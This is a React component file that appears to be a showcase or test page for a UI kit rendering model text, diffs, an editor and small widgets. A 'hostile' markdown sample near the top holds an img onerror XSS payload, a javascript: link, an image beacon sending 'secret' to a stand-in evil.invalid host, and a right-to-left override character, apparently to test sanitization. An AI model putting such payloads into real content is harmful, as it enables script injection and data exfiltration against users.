import { type ReactNode, useState } from 'react'
import { CodeBlock } from '../kit/code-block.tsx'
import { Message } from '../kit/conversation/message.tsx'
import { CopyText } from '../kit/copy-text.tsx'
import { Facts } from '../kit/facts.tsx'
import { KeyCaps } from '../kit/key-caps.tsx'
import { Card } from '../kit/page.tsx'
import { CodeEditor, Markdown, TextDiff, WordDiff } from '../kit/text/lazy.tsx'
import { TimeText } from '../kit/time-text.tsx'

const hostile = [
  '**Hello**, <img src=x onerror="window.hostile = true"> and ![a picture](http://evil.invalid/?q=secret).',
  '[Click me](javascript:alert(1)) or [here](https://evil.invalid/path). \u202Eesrever',
  '',
  '| a | b |',
  '|---|---|',
  '',
  '```js',
  'const x = 1',
  '```',
].join('\n')

const call = { type: 'function', function: { name: 'find_order', arguments: '{"id":17}' } }

const before = 'The answer fails when it names a wrong fact.\nShort answers are fine.'
const after = 'The answer fails when it names a wrong fact or an invented source.\nShort answers are fine.'

export function TextSection(): ReactNode {
  const [json, setJson] = useState('{\n  "model": "sim/small",\n  "temperature": 0.2,\n  "stream": true\n}')
  return (
    <>
      <Card title="Text of a model">
        <Markdown text={hostile} />
        <Message message={{ role: 'user', content: hostile }} />
        <Message message={{ role: 'assistant', content: 'One **moment**.', tool_calls: [call] }} name="answer" />
      </Card>
      <Card title="Differences">
        <WordDiff before={before} after={after} />
        <TextDiff before={before} after={after} label="Versions of the prompt" />
      </Card>
      <Card title="Editor">
        <CodeEditor label="Parameters" language="json" value={json} onChange={setJson} />
      </Card>
      <Card title="Small parts">
        <Facts
          facts={[
            ['Request', <CopyText key="id" text="req_01ab" label="Copy the id of the request" />],
            ['Keys', <KeyCaps key="keys" keys="g l" />],
            ['When', <TimeText key="time" at="2026-11-20T10:00:00Z" />],
          ]}
        />
        <div style={{ height: 10 }} />
        <CodeBlock code={'curl http://127.0.0.1:8080/v1/models'} label="A request" />
      </Card>
    </>
  )
}
